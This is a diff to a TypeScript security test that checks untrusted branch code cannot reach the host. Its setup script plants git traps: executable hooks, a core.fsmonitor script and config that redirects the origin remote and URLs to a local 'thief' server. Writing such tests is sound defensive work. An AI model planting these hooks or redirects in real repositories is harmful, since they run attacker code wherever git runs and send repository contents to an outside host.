@@ -70,14 +70,15 @@ describe('source safety: nothing from a branch reaches the host', () => {
     await new Promise<void>((r) => thief.listen(0, '127.0.0.1', r));
     const thiefUrl = `http://127.0.0.1:${(thief.address() as { port: number }).port}/loot.git`;
     const marker = path.join(tmp, 'pwned');
-    // The app's own seed plants the traps, as any code on the branch could.
+    // The app's own seed plants the traps, as any code on the branch could. Relative paths and
+    // .git/hooks: they would fire wherever git runs on this disk, the host included.
     const plant = [
       'set -e',
       `printf '#!/bin/sh\\ntouch ${marker}\\n' > /workspace/.git/hooks/post-merge`,
       'for h in reference-transaction post-checkout pre-receive update post-update; do cp /workspace/.git/hooks/post-merge /workspace/.git/hooks/$h; done',
       'cp /workspace/.git/hooks/post-merge /workspace/.git/fsmonitor.sh',
       'chmod +x /workspace/.git/hooks/* /workspace/.git/fsmonitor.sh',
-      `printf '[core]\\n\\tfsmonitor = /workspace/.git/fsmonitor.sh\\n\\thooksPath = /workspace/.git/hooks\\n[remote "origin"]\\n\\turl = ${thiefUrl}\\n[url "${thiefUrl}"]\\n\\tinsteadOf = /src\\n\\tinsteadOf = http\\n' >> /workspace/.git/config`,
+      `printf '[core]\\n\\tfsmonitor = .git/fsmonitor.sh\\n[remote "origin"]\\n\\turl = ${thiefUrl}\\n[url "${thiefUrl}"]\\n\\tinsteadOf = /src\\n\\tinsteadOf = http\\n' >> /workspace/.git/config`,
       '',
     ].join('\n');
     const yml = sampleAppFiles()['.github/berth.yml']!.replace('seed: node seed.js', 'seed: sh plant.sh && node seed.js');
